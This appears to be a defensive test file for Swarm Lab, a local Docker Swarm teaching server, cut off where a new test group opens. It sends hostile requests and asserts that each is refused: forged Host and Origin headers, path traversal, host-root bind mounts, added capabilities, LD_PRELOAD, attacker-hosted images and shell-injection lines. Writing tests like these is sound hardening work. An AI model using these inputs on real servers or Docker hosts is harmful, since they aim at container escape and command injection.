// The local server, started for real on a random port with the simulator as its backend
// (wrapped in a spy that records every Engine call): every row of the hostile-request
// table of local-mode-security.md sent as a real HTTP / WebSocket request, asserting the
// refusal and that no Engine call was made; then the happy path of a lesson. The rows of
// issue 15 are here too: the terminal slot (T3), node availabilities put back (N4), label
// scoping on the sandbox (G1), and the learner's own daemon (D1-D4) through a fake Engine on a
// unix socket (test/helpers/fake-engine.ts) that counts every request the real DockerodeApi sends.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { WebSocket } from 'ws';
import type { EngineCall } from '../engine/node/server/call-log.js';
import type { LocalServer } from '../engine/node/server/server.js';
import { MAX_PENDING_SOCKETS, startLocalServer } from '../engine/node/server/server.js';
import { MANAGED_LABEL_KEY, MAX_SERVICES, MAX_TOTAL_REPLICAS } from '../engine/node/server/guard.js';
import type { ServerFrame } from '../engine/node/server/protocol.js';
import { parseClientFrame } from '../engine/node/server/protocol.js';
import { Simulator } from '../engine/sim/simulator.js';
import { CURL_REFUSED_LINES, X1_LINES } from './helpers/hostile-lines.js';
import { simBackend } from './helpers/sim-backend.js';
import type { FakeEngine } from './helpers/fake-engine.js';
import { startFakeEngine } from './helpers/fake-engine.js';

const SPEED = 40; // simulated seconds per real second: a rolling update takes ~1 s

let sim: Simulator;
let calls: EngineCall[];
let server: LocalServer;
let token: string;
let port: number;
let driver: ReturnType<typeof setInterval>;
const logs: string[] = [];
/** The argv of every curl the terminal would have spawned. */
const curlSpawns: string[][] = [];
/** Everything any response carried (headers and bodies), for L1. */
const seen: string[] = [];
let siteDir: string;

beforeAll(async () => {
  sim = new Simulator({ seed: 5, startEpochMs: Date.now() });
  calls = [];
  driver = setInterval(() => sim.clock.advance(20 * SPEED), 20);
  siteDir = mkdtempSync(join(tmpdir(), 'swarm-lab-site-'));
  writeFileSync(join(siteDir, 'index.html'), '<!doctype html><title>Swarm Lab</title>');
  mkdirSync(join(siteDir, 'lessons'));
  writeFileSync(join(siteDir, 'lessons', 'index.html'), '<p>lessons</p>');
  writeFileSync(join(tmpdir(), 'swarm-lab-secret.txt'), 'SECRET-OUTSIDE-SITE');
  server = await startLocalServer({
    siteDir,
    backend: simBackend(sim, { calls }),
    log: (l) => logs.push(l),
    authTimeoutMs: 400,
    // The terminal's curl records what it would spawn instead (local-curl.test.ts runs the real one's bounds).
    curl: {
      run: (argv) => {
        curlSpawns.push([...argv]);
        return Promise.resolve({ stdout: 'welcome\n', stderr: '', exitCode: 0 });
      },
      ipvs: () => false,
    },
  });
  port = server.port;
  token = /#t=([A-Za-z0-9_-]+)$/.exec(server.url)![1]!;
});

afterAll(async () => {
  clearInterval(driver);
  await server?.close();
});

const opened: Terminal[] = [];

beforeEach(() => {
  calls.length = 0;
});

afterEach(async () => {
  // A failed test must not leave its terminal holding the one terminal slot.
  for (const t of opened.splice(0)) await t.close();
});

const ORIGIN = (): string => `http://127.0.0.1:${port}`;

interface RawResponse {
  status: number;
  head: string;
  body: string;
}

/** Sends bytes as they are (malformed requests included) and reads until the server closes. */
function raw(text: string, p = port, host = '127.0.0.1'): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const s = connect({ port: p, host });
    const chunks: Buffer[] = [];
    s.on('data', (c: Buffer) => chunks.push(c));
    s.on('error', reject);
    s.on('close', () => {
      const all = Buffer.concat(chunks).toString('utf8');
      seen.push(all);
      const [head = '', body = ''] = all.split('\r\n\r\n', 2);
      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0), head, body });
    });
    // Not end(): the server would see the half-close and drop a response still being read from disk.
    s.write(text);
  });
}

function request(method: string, path: string, headers: Record<string, string | undefined> = {}, body = ''): Promise<RawResponse> {
  const h: Record<string, string | undefined> = {
    Host: `127.0.0.1:${port}`,
    Origin: ORIGIN(),
    Authorization: `Bearer ${token}`,
    'Content-Type': 'application/json',
    ...headers,
  };
  const lines = Object.entries(h)
    .filter(([, v]) => v !== undefined)
    .map(([k, v]) => `${k}: ${v}\r\n`)
    .join('');
  const len = body !== '' || method === 'POST' ? `Content-Length: ${Buffer.byteLength(body)}\r\n` : '';
  return raw(`${method} ${path} HTTP/1.1\r\n${lines}${len}Connection: close\r\n\r\n${body}`);
}

/** A WebSocket upgrade's outcome: 101 or the refusal's status. */
function upgrade(headers: Record<string, string>, origin: string | null = ORIGIN()): Promise<{ status: number; ws?: WebSocket }> {
  return new Promise((resolve) => {
    // null: no Origin header at all (the ws client sends none unless told to).
    const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`, { headers, ...(origin !== null ? { origin } : {}) });
    ws.on('unexpected-response', (_req, res) => {
      seen.push(JSON.stringify(res.headers));
      resolve({ status: res.statusCode ?? 0 });
      ws.terminate();
    });
    ws.on('open', () => resolve({ status: 101, ws }));
    ws.on('error', () => resolve({ status: 0 }));
  });
}

/** An authenticated terminal: send frames, collect what comes back. */
class Terminal {
  frames: ServerFrame[] = [];
  closed: { code: number } | undefined;
  private waiters: (() => void)[] = [];
  private nextId = 1;

  constructor(readonly ws: WebSocket) {
    ws.on('message', (d) => {
      const text = d.toString();
      seen.push(text);
      this.frames.push(JSON.parse(text) as ServerFrame);
      this.wake();
    });
    ws.on('close', (code) => {
      this.closed = { code };
      this.wake();
    });
  }

  private wake(): void {
    for (const w of this.waiters.splice(0)) w();
  }

  async until(pred: () => boolean, ms = 15_000): Promise<void> {
    const end = Date.now() + ms;
    while (!pred()) {
      if (Date.now() > end) throw new Error(`timed out; frames: ${JSON.stringify(this.frames.slice(-5))}`);
      await new Promise<void>((r) => {
        this.waiters.push(r);
        setTimeout(r, 200);
      });
    }
  }

  send(frame: unknown): void {
    this.ws.send(JSON.stringify(frame));
  }

  /** Runs a line; resolves with its output and exit code. `onOut` sees each out frame. */
  async run(line: string, onOut?: (text: string) => void): Promise<{ out: string; code: number; frames: number }> {
    const id = this.nextId++;
    const start = this.frames.length;
    let seenOut = 0;
    this.send({ t: 'run', id, line, cols: 120 });
    await this.until(() => {
      const mine = this.frames.slice(start).filter((f) => 'id' in f && f.id === id);
      for (const f of mine.slice(seenOut)) if (f.t === 'out') onOut?.(f.text);
      seenOut = mine.length;
      return mine.some((f) => f.t === 'done' || f.t === 'error');
    });
    const mine = this.frames.slice(start).filter((f) => 'id' in f && f.id === id);
    const done = mine.find((f) => f.t === 'done');
    return {
      out: mine.map((f) => (f.t === 'out' ? f.text : f.t === 'error' ? f.message : '')).join(''),
      code: done?.t === 'done' ? done.code : -1,
      frames: mine.filter((f) => f.t === 'out').length,
    };
  }

  close(): Promise<void> {
    if (this.closed) return Promise.resolve();
    this.ws.close();
    return this.until(() => this.closed !== undefined);
  }
}

/** An authenticated terminal on the server at `url` (http://127.0.0.1:PORT/#t=TOKEN). */
async function terminalAt(url: string): Promise<Terminal> {
  const u = new URL(url);
  const ws = new WebSocket(`ws://${u.host}/ws`, { origin: u.origin });
  await new Promise<void>((res, rej) => {
    ws.once('open', () => res());
    ws.once('error', rej);
  });
  const t = new Terminal(ws);
  opened.push(t);
  t.send({ t: 'auth', token: u.hash.slice('#t='.length) });
  await t.until(() => t.frames.some((f) => f.t === 'ready') || t.closed !== undefined);
  expect(t.closed).toBeUndefined();
  return t;
}

/** POST /api/run on the server at `url`, as a script would; `abortAfterMs`: the client goes away then. */
function apiRun(url: string, line: string, abortAfterMs?: number): Promise<{ status: number; body: string }> {
  const u = new URL(url);
  const body = JSON.stringify({ line });
  return new Promise((resolve) => {
    const s = connect({ port: Number(u.port), host: '127.0.0.1' });
    const chunks: Buffer[] = [];
    s.on('data', (c: Buffer) => chunks.push(c));
    s.on('error', () => undefined);
    s.on('close', () => {
      const all = Buffer.concat(chunks).toString('utf8');
      const [head = '', rest = ''] = all.split('\r\n\r\n', 2);
      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0), body: rest });
    });
    s.write(
      `POST /api/run HTTP/1.1\r\nHost: ${u.host}\r\nOrigin: ${u.origin}\r\nAuthorization: Bearer ${u.hash.slice(3)}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`,
    );
    if (abortAfterMs !== undefined) setTimeout(() => s.destroy(), abortAfterMs);
  });
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

async function terminal(): Promise<Terminal> {
  const { status, ws } = await upgrade({});
  expect(status).toBe(101);
  const t = new Terminal(ws!);
  opened.push(t);
  t.send({ t: 'auth', token });
  await t.until(() => t.frames.some((f) => f.t === 'ready'));
  return t;
}

/** Processes whose parent is this test process (none may ever be spawned by a terminal line). */
function childPids(): string[] {
  return readdirSync('/proc')
    .filter((d) => /^\d+$/.test(d))
    .filter((d) => {
      try {
        const stat = readFileSync(`/proc/${d}/stat`, 'utf8');
        return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1] === String(process.pid);
      } catch {
        return false;
      }
    });
}

describe('transport: Host, listener, token (H1-H3, T1-T2)', () => {
  it('H1: a foreign Host gets 403 and a body that says nothing', async () => {
    const r = await request('GET', '/', { Host: `evil.example:${port}` });
    expect(r.status).toBe(403);
    expect(r.body).not.toMatch(/manager1|redis|Swarm Lab/);
    expect(calls).toEqual([]);
  });

  it.each(['localhost.evil.example', '127.0.0.1.nip.io', '0.0.0.0', '127.0.0.2', '[::ffff:127.0.0.1]'])('H2 Host %s:PORT → 403 (HTTP and WS)', async (h) => {
    expect((await request('GET', '/', { Host: `${h}:${port}` })).status).toBe(403);
    expect((await upgrade({ Host: `${h}:${port}` })).status).toBe(403);
    expect(calls).toEqual([]);
  });

  it('H2: wrong port, no Host (HTTP/1.0), two Host headers → 403/400; the right Host serves the page', async () => {
    expect((await request('GET', '/', { Host: `127.0.0.1:${port + 1}` })).status).toBe(403);
    expect((await raw('GET / HTTP/1.0\r\n\r\n')).status).toBe(403);
    const two = await raw(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nHost: evil.example\r\nConnection: close\r\n\r\n`);
    expect([400, 403]).toContain(two.status);
    const ok = await request('GET', '/', { Host: `localhost:${port}` });
    expect(ok.status).toBe(200);
    expect(ok.body).toContain('<title>Swarm Lab</title>');
    for (const h of ['X-Frame-Options: DENY', "Content-Security-Policy: frame-ancestors 'none'", 'X-Content-Type-Options: nosniff', 'Cache-Control: no-store']) {
      expect(ok.head).toContain(h);
      expect(two.head + (await request('GET', '/', { Host: 'evil.example' })).head).toContain(h.split(':')[0]!);
    }
  });

  it('H3: the listener is 127.0.0.1 only; a non-loopback address is refused; other hosts cannot be configured', async () => {
    const ss = execFileSync('ss', ['-ltnH', `sport = :${port}`], { encoding: 'utf8' });
    expect(ss).toContain(`127.0.0.1:${port}`);
    expect(ss).not.toMatch(/(0\.0\.0\.0|\*|\[::\]):\d+\s/);
    const external = Object.values(networkInterfaces())
      .flat()
      .find((a) => a && a.family === 'IPv4' && !a.internal);
    if (external) {
      await expect(raw(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`, port, external.address)).rejects.toMatchObject({ code: 'ECONNREFUSED' });
    } else {
      console.warn('H3: this machine has no non-loopback IPv4 address; checked the listener with ss only');
    }
    await expect(startLocalServer({ host: '0.0.0.0', siteDir, backend: simBackend(sim, { calls }) })).rejects.toThrow(/loopback only/);
  });

  it('T1: API calls without the right token are 401, whatever the token looks like, and the server keeps going', async () => {
    const other = await startLocalServer({ siteDir, backend: simBackend(sim, { calls }) });
    const previousLaunch = /#t=(.+)$/.exec(other.url)![1]!;
    await other.close();
    const bad: Record<string, string | undefined>[] = [
      { Authorization: undefined },
      { Authorization: `Bearer ${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}` },
      { Authorization: `Bearer ${token}x` },
      { Authorization: 'Bearer ' + 'x'.repeat(5000) },
      { Authorization: `Bearer ${previousLaunch}` },
      { Authorization: `token ${token}` },
      { Cookie: `t=${token}`, Authorization: undefined },
    ];
    for (const h of bad) {
      expect((await request('GET', '/api/backend', h)).status, JSON.stringify(h)).toBe(401);
      expect((await request('POST', '/api/run', h, JSON.stringify({ line: 'docker node ls' }))).status).toBe(401);
    }
    expect((await request('GET', `/api/backend?token=${token}`, { Authorization: undefined })).status).toBe(401);
    expect(calls).toEqual([]);
    const ok = await request('GET', '/api/backend');
    expect(ok.status).toBe(200);
    expect(JSON.parse(ok.body)).toMatchObject({ kind: 'sandbox', name: 'manager1' });
  });

  it('T2: a socket whose first frame is not a valid auth frame, or that stays silent, is closed before any command runs', async () => {
    for (const first of [{ t: 'run', id: 1, line: 'docker node ls', cols: 80 }, { t: 'auth', token: 'nope' }, { t: 'auth', token: `${token}x` }, 'not json']) {
      const { ws } = await upgrade({});
      const t = new Terminal(ws!);
      ws!.send(typeof first === 'string' ? first : JSON.stringify(first));
      ws!.send(JSON.stringify({ t: 'run', id: 2, line: 'docker service create --name x redis:7.4.0', cols: 80 }));
      await t.until(() => t.closed !== undefined);
      expect(t.closed!.code).toBe(4401);
      expect(t.frames).toEqual([]);
    }
    const { ws } = await upgrade({});
    const silent = new Terminal(ws!);
    await silent.until(() => silent.closed !== undefined, 3000);
    expect(silent.closed!.code).toBe(4401);
    expect(calls).toEqual([]);
  });
});

describe('Origin, content type, sizes, paths (O1-O3, C1-C2, P1)', () => {
  const BAD_ORIGINS = (): string[] => [
    'https://evil.example',
    'null',
    `http://127.0.0.1:${port + 1}`,
    `https://127.0.0.1:${port}`,
    `http://localhost:${port}.evil.example`,
  ];

  it('O1/O2: a wrong or missing Origin is 403 on POST and on the WS upgrade (before 101)', async () => {
    for (const o of BAD_ORIGINS()) {
      expect((await request('POST', '/api/run', { Origin: o }, JSON.stringify({ line: 'docker node ls' }))).status, o).toBe(403);
      const u = await upgrade({}, o);
      u.ws?.terminate();
      expect(u.status, `WS ${o}`).toBe(403);
    }
    expect((await request('POST', '/api/run', { Origin: undefined }, JSON.stringify({ line: 'docker node ls' }))).status).toBe(403);
    expect((await upgrade({}, null)).status).toBe(403);
    expect(calls).toEqual([]);
  });

  it('O3: a preflight from an evil origin gets no Access-Control-Allow-Origin; never a wildcard', async () => {
    const r = await request('OPTIONS', '/api/run', { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' });
    expect(r.status).toBe(403);
    expect(r.head.toLowerCase()).not.toContain('access-control-allow-origin');
    const own = await request('OPTIONS', '/api/run', { 'Access-Control-Request-Method': 'POST' });
    expect(own.head).toContain(`Access-Control-Allow-Origin: ${ORIGIN()}`);
    expect(own.head).not.toContain('Access-Control-Allow-Origin: *');
  });

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json-seq'])('C1 %s → 415', async (ct) => {
    const r = await request('POST', '/api/run', { 'Content-Type': ct }, JSON.stringify({ line: 'docker service create --name x redis:7.4.0' }));
    expect(r.status).toBe(415);
    expect(calls).toEqual([]);
  });

  it('C2: a 1 MB body and a 100 KB command line are 413 (HTTP); a 100 KB frame closes the socket', async () => {
    expect((await request('POST', '/api/run', {}, JSON.stringify({ line: 'x'.repeat(1024 * 1024) }))).status).toBe(413);
    expect((await request('POST', '/api/run', {}, JSON.stringify({ line: `docker service ls ${'x'.repeat(100 * 1024)}` }))).status).toBe(413);
    expect((await request('POST', '/api/run', {}, JSON.stringify({ line: `docker service ls ${'x'.repeat(5000)}` }))).status).toBe(413);
    const t = await terminal();
    t.send({ t: 'run', id: 1, line: `docker service ls ${'x'.repeat(100 * 1024)}`, cols: 80 });
    await t.until(() => t.closed !== undefined);
    expect(t.closed!.code).toBe(1009);
    expect(calls).toEqual([]);
  });

  it('P1: no pass-through to the Engine API, whatever the path looks like', async () => {
    const paths = [
      '/containers/create',
      '/v1.41/containers/create',
      '//containers/create',
      '/v1.41/services/../containers/create',
      '/v1.41/services/%2e%2e%2fcontainers/create',
      '/%2e%2e%2f%2e%2e%2fetc/passwd',
      '/..%2f..%2fswarm-lab-secret.txt',
      '/V1.41/SERVICES/create',
      '/v1.41/x/services/create',
      '/v1.41/services/create/',
      '/v1.41/services/create%00',
      '/api/run/../../containers/create',
      '/api/services/create',
    ];
    const spec = JSON.stringify({ Name: 'x', TaskTemplate: { ContainerSpec: { Image: 'redis:7.4.0', Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] } } });
    for (const p of paths) {
      const post = await request('POST', p, {}, spec);
      expect([403, 404, 405], `POST ${p}`).toContain(post.status);
      const get = await request('GET', p);
      expect([403, 404, 405], `GET ${p}`).toContain(get.status);
      expect(get.body).not.toContain('SECRET-OUTSIDE-SITE');
    }
    const asBody = await request('POST', '/api/run', {}, JSON.stringify({ path: '/containers/create', body: spec }));
    expect(asBody.status).toBe(400);
    expect(calls).toEqual([]);
    expect(await sim.api('manager1').serviceList()).toEqual([]);
  });
});

describe('the terminal: command table and guard (S1-S8, N1-N2, X1-X2, R1)', () => {
  const NA = /not available in local mode/;

  async function refusedWithoutCalls(t: Terminal, lines: readonly string[]): Promise<void> {
    for (const line of lines) {
      calls.length = 0;
      // At the server's refill rate (20 commands a second): the hostile lists together are longer
      // than its burst of 60, and a rate-limited line would prove nothing about the table.
      await new Promise((r) => setTimeout(r, 50));
      const r = await t.run(line);
      expect(r.out, line).toMatch(NA);
      expect(r.code, line).not.toBe(0);
      expect(calls.map((c) => c.method), line).toEqual([]);
    }
  }

  it('S1-S6 as typed lines: refused, no Engine call, no service afterwards', async () => {
    const t = await terminal();
    await refusedWithoutCalls(t, [
      'docker service create --mount type=bind,source=/,target=/host --name x redis:7.4.0',
      'docker service create --mount type=volume,source=v,target=/v --name x redis:7.4.0',
      'docker service create --mount type=tmpfs,target=/t --name x redis:7.4.0',
      'docker service create --cap-add ALL --name x redis:7.4.0',
      'docker service create --cap-add CAP_SYS_ADMIN --name x redis:7.4.0',
      'docker service create --sysctl net.ipv4.ip_forward=1 --name x redis:7.4.0',
      'docker service create --user 0 --name x redis:7.4.0',
      'docker service create --init --name x redis:7.4.0',
      'docker service create --env LD_PRELOAD=/x.so --name x redis:7.4.0',
      'docker service create --health-cmd true --name x redis:7.4.0',
      'docker service create --log-driver syslog --log-opt syslog-address=tcp://evil --name x redis:7.4.0',
      'docker service create --secret s --name x redis:7.4.0',
      'docker service create --config c --name x redis:7.4.0',
      'docker service create --network host --name x redis:7.4.0',
      // These pass the command table and are refused by the guard (the CLI's registry
      // lookup included): the spy sits below the guard, so still no Engine call.
      'docker service create --name x alpine',
      'docker service create --name x attacker.io/x:1',
      `docker service create --name x redis:7.4.0@sha256:${'a'.repeat(64)}`,
      'docker service create --name x redis',
      'docker service create --replicas 100000 --name x redis:7.4.0',
      'docker service create --mode global --name x redis:7.4.0',
      'docker service create --update-delay 1h --name x redis:7.4.0',
      'docker service create -p published=22,target=6379,mode=host --name x redis:7.4.0',
      'docker service create -p published=8080,target=6379,protocol=sctp --name x redis:7.4.0',
      'docker service create -p 22:6379 --name x redis:7.4.0',
      'docker service create -p 9000:6379 --name x redis:7.4.0',
    ]);
    expect(await sim.api('manager1').serviceList()).toEqual([]);
    await t.close();
  });

  it('X1 and N1/N2 lines are "not available in local mode" with no Engine call', async () => {
    const t = await terminal();
    await refusedWithoutCalls(t, X1_LINES);
    const manager = (await sim.api('manager1').swarmInspect()).JoinTokens.Manager;
    const worker = await t.run('docker swarm join-token worker');
    expect(worker.code).toBe(0);
    expect(worker.out).toContain((await sim.api('manager1').swarmInspect()).JoinTokens.Worker);
    expect(worker.out).not.toContain(manager);
    const unknown = await t.run('docker node update --availability drain nosuchnode');
    expect(unknown.code).toBe(1);
    expect(calls.map((c) => c.method)).not.toContain('nodeUpdate');
    await t.close();
  });

  it('X2: shell metacharacters are refused or literal, and no process is ever spawned', async () => {
    const t = await terminal();
    const canary = join(tmpdir(), `swarm-lab-canary-${process.pid}`);
    const before = childPids();
    for (const line of [
      `docker service ls; touch ${canary}`,
      `docker service ls && touch ${canary}`,
      `echo $(touch ${canary})`,
      `echo \`touch ${canary}\``,
      `docker service ls | sh`,
      `docker service ls\ntouch ${canary}`,
      'docker service create —replicas 3 --name x redis:7.4.0',
      `touch ${canary}`,
      `/bin/sh -c 'touch ${canary}'`,
    ]) {
      calls.length = 0;
      const r = await t.run(line);
      expect(r.code, line).not.toBe(0);
      expect(calls, line).toEqual([]);
    }
    expect(existsSync(canary)).toBe(false);
    expect(childPids()).toEqual(before);
    await t.close();
  });

  it('R1: 1000 commands in a second are rate-limited; a second terminal socket is refused', async () => {
    const t = await terminal();
    // The second socket is upgraded (a refused upgrade would reach a page as a bare 1006) but
    // gets no terminal: unauthenticated it is closed as any other (4401, nothing said about
    // the first), authenticated it is closed with 4409 and a reason; no Engine call either way.
    const second = async (auth: string | undefined): Promise<{ code: number; reason: string; frames: string[] }> => {
      const { status, ws } = await upgrade({});
      expect(status).toBe(101);
      const frames: string[] = [];
      ws!.on('message', (d) => frames.push(d.toString()));
      const closed = new Promise<{ code: number; reason: string }>((r) => ws!.on('close', (code, reason) => r({ code, reason: reason.toString() })));
      if (auth !== undefined) ws!.send(JSON.stringify({ t: 'auth', token: auth }));
      return { ...(await closed), frames };
    };
    expect(await second(token)).toEqual({ code: 4409, reason: 'another tab holds the local terminal', frames: [] });
    expect(await second('x'.repeat(token.length))).toMatchObject({ code: 4401, frames: [] });
    expect(await second(undefined)).toMatchObject({ code: 4401, frames: [] });
    expect(calls).toEqual([]);
    // The first terminal is untouched.
    expect((await t.run('docker node ls')).code).toBe(0);
    const start = t.frames.length;
    for (let i = 0; i < 1000; i++) t.send({ t: 'run', id: 10_000 + i, line: 'true', cols: 80 });
    await t.until(() => t.frames.slice(start).filter((f) => f.t === 'done' || f.t === 'error').length >= 1000, 10_000);
    const after = t.frames.slice(start);
    const limited = after.filter((f) => f.t === 'error' && /rate limited/.test(f.message)).length;
    expect(limited).toBeGreaterThan(800);
    expect(after.filter((f) => f.t === 'done').length).toBeLessThanOrEqual(100);
    await t.close();
    await new Promise((r) => setTimeout(r, 2500)); // let the buckets refill for the next tests
  });

  it('X3: curl lines outside GET to a published port are "not available in local mode": no Engine call, no curl, no process', async () => {
    const t = await terminal();
    const before = childPids();
    curlSpawns.length = 0;
    await refusedWithoutCalls(t, CURL_REFUSED_LINES);
    expect(curlSpawns).toEqual([]);
    expect(childPids()).toEqual(before);
    await t.close();
  });

  it('X3: curl to a node, address or port not Swarm Lab\'s (asked of the daemon) is refused with nothing spawned; a published port is curled', async () => {
    const t = await terminal();
    expect((await t.run('docker service create --name my-web --publish published=8080,target=80 nginx:1.27.3')).code).toBe(0);
    curlSpawns.length = 0;
    const before = childPids();
    for (const line of ['curl 198.18.0.1:8080', 'curl evil.example:8080', 'curl localhost:8088', 'curl 127.0.0.2:8080']) {
      const r = await t.run(line);
      expect(r.out, line).toMatch(/not available in local mode/);
      expect(r.code, line).toBe(1);
    }
    expect(curlSpawns).toEqual([]);
    expect(childPids()).toEqual(before);
    const ok = await t.run('curl -s http://worker2:8080/');
    expect(ok).toMatchObject({ code: 0 });
    expect(ok.out).toContain('welcome');
    expect(curlSpawns).toHaveLength(1);
    expect(curlSpawns[0]!.slice(0, 3)).toEqual(['--net=/run/netns/manager1', '--', 'curl']);
    expect(curlSpawns[0]!.at(-1)).toBe('http://worker2:8080/');
    expect((await t.run('docker service rm my-web')).code).toBe(0);
    await t.close();
  });

  it('L2: a page in Chinese gets the shell\'s words and curl\'s refusals in Chinese; a language the server does not know is not a valid auth frame', async () => {
    const { ws } = await upgrade({});
    const t = new Terminal(ws!);
    opened.push(t);
    t.send({ t: 'auth', token, lang: 'zh-CN' });
    await t.until(() => t.frames.some((f) => f.t === 'ready'));
    const curl = await t.run('curl -X POST localhost:8080');
    expect(curl.out).toBe('swarm-lab: curl -X：本地模式下不可用：这里的 curl 只发 GET 请求（curl [-s] [-i] [-m SECONDS] http://NODE:PORT[/path]）\n');
    expect((await t.run('lab node stop worker1')).out).toBe('lab: 本地模式下不可用：只能向模拟的 swarm 注入故障（切换到模拟器再试）\n');
    await t.close();
    for (const lang of ['fr', 'zh-cn', '', 7]) {
      const { ws: other } = await upgrade({});
      const o = new Terminal(other!);
      o.send({ t: 'auth', token, lang });
      await o.until(() => o.closed !== undefined);
      expect(o.closed!.code, String(lang)).toBe(4401);
      expect(o.frames).toEqual([]);
    }
  });
});

describe('the terminal slot (T3): unauthenticated sockets never keep the page out', () => {
  it(`T3: with ${MAX_PENDING_SOCKETS + 8} unauthenticated upgrades held open, the page gets its terminal at once, again and again`, async () => {
    for (let round = 0; round < 3; round++) {
      const holders: { ws: WebSocket; closed?: number }[] = [];
      for (let i = 0; i < MAX_PENDING_SOCKETS + 8; i++) {
        const { status, ws } = await upgrade({});
        expect(status).toBe(101);
        const h: { ws: WebSocket; closed?: number } = { ws: ws! };
        ws!.on('close', (code) => (h.closed = code));
        holders.push(h);
      }
      const started = Date.now();
      const t = await terminal();
      // At once: before, the upgrade was refused (503) until the holders timed out (5 s by default).
      expect(Date.now() - started).toBeLessThan(1000);
      expect((await t.run('docker node ls')).code).toBe(0);
      await t.close();
      // The oldest holders were let go to make room; the rest time out, none ever ran anything.
      expect(holders.filter((h) => h.closed === 4401).length).toBeGreaterThanOrEqual(8);
      for (const h of holders) h.ws.terminate();
    }
    expect(calls.filter((c) => c.method !== 'nodeList' && c.method !== 'info')).toEqual([]);
  });
});

describe('node availabilities Swarm Lab changed go back (N4)', () => {
  const availability = async (host: string): Promise<string> => (await sim.api('manager1').nodeInspect(host)).Spec.Availability;
  const until = async (cond: () => Promise<boolean>, ms = 3000): Promise<void> => {
    const end = Date.now() + ms;
    while (!(await cond())) {
      if (Date.now() > end) throw new Error('timed out');
      await sleep(20);
    }
  };

  it('N4: when the page leaves local mode (its socket closes), every node it drained or paused is as it was', async () => {
    const t = await terminal();
    expect((await t.run('docker node update --availability drain worker1')).code).toBe(0);
    expect((await t.run('docker node update --availability pause worker2')).code).toBe(0);
    expect(await availability('worker1')).toBe('drain');
    await t.close();
    await until(async () => (await availability('worker1')) === 'active' && (await availability('worker2')) === 'active');
    expect(logs.some((l) => /the page left local mode: set the availability of worker1, worker2 back/.test(l))).toBe(true);
  });

  it('N4: a lesson reset sets them back too, and says so in its plan first', async () => {
    const t = await terminal();
    expect((await t.run('docker node update --availability drain worker2')).code).toBe(0);
    t.send({ t: 'plan', id: 'p', setup: [] });
    await t.until(() => t.frames.some((f) => f.t === 'result' && f.id === 'p'));
    const plan = t.frames.find((f) => f.t === 'result' && f.id === 'p');
    expect(plan?.t === 'result' && (plan.value as { activate: string[] }).activate).toEqual(['worker2']);
    t.send({ t: 'reset', id: 'r', setup: [] });
    await t.until(() => t.frames.some((f) => f.t === 'result' && f.id === 'r'));
    const reset = t.frames.find((f) => f.t === 'result' && f.id === 'r');
    expect(reset?.t === 'result' && (reset.value as { activated: string[] }).activated).toEqual(['worker2']);
    expect(await availability('worker2')).toBe('active');
    await t.close();
  });

  it('N4: when the server stops, after the command under way has ended', async () => {
    const other = new Simulator({ seed: 9, startEpochMs: Date.now() });
    const drive = setInterval(() => other.clock.advance(20 * SPEED), 20);
    const server2 = await startLocalServer({ siteDir, backend: simBackend(other), log: (l) => logs.push(l) });
    try {
      const t = await terminalAt(server2.url);
      expect((await t.run('docker node update --availability drain manager1')).code).toBe(0);
      expect((await other.api('manager1').nodeInspect('manager1')).Spec.Availability).toBe('drain');
      // A command still waiting when the server stops ends first; then the node goes back.
      t.send({ t: 'run', id: 99, line: 'docker service create --constraint node.hostname==nosuch --name stuck redis:7.4.0', cols: 80 });
      await t.until(() => t.frames.some((f) => f.t === 'out' && f.id === 99));
      await server2.close();
      expect((await other.api('manager1').nodeInspect('manager1')).Spec.Availability).toBe('active');
      expect(logs.some((l) => /the server stopped: set the availability of manager1 back/.test(l))).toBe(true);
    } finally {
      clearInterval(drive);
      await server2.close();
    }
  });
});

describe('the sandbox is not a free-for-all (G1): a service Swarm Lab did not create is left alone there too', () => {
  it('G1: inspect, rm, logs, ps, update, scale of a foreign service: "no such service", nothing read, nothing changed', async () => {
    const api = sim.api('manager1');
    const foreign = await api.serviceCreate({
      Name: 'foreign',
      Labels: {},
      TaskTemplate: { ContainerSpec: { Image: 'redis:7.4.0', Env: ['DB_PASSWORD=hunter2'] } as never, ForceUpdate: 0 },
      Mode: { Replicated: { Replicas: 1 } },
    });
    const version = (await api.serviceInspect(foreign.ID)).Version.Index;
    const t = await terminal();
    calls.length = 0;
    for (const line of ['docker service inspect foreign', `docker service inspect ${foreign.ID}`, 'docker service rm foreign', 'docker service logs foreign', 'docker service ps foreign', 'docker service update --replicas 2 foreign', 'docker service scale foreign=2', 'docker service rollback foreign']) {
      const r = await t.run(line);
      expect(r.code, line).not.toBe(0);
      expect(r.out, line).toMatch(/no such (task or )?service|not found/);
      expect(r.out, line).not.toContain('hunter2');
    }
    expect((await t.run('docker service ls')).out).not.toContain('foreign');
    expect((await t.run('docker ps -a')).out).not.toContain('foreign');
    const text = JSON.stringify(calls);
    expect(text).not.toContain(foreign.ID);
    expect(calls.filter((c) => ['serviceInspect', 'serviceDelete', 'serviceUpdate', 'serviceLogs', 'taskInspect'].includes(c.method))).toEqual([]);
    expect((await api.serviceInspect(foreign.ID)).Version.Index).toBe(version);
    await t.close();
    await api.serviceDelete(foreign.ID);
  });
});

describe('the swarm view over the socket (V4-V8): only after auth, only while watched, reads bounded', () => {
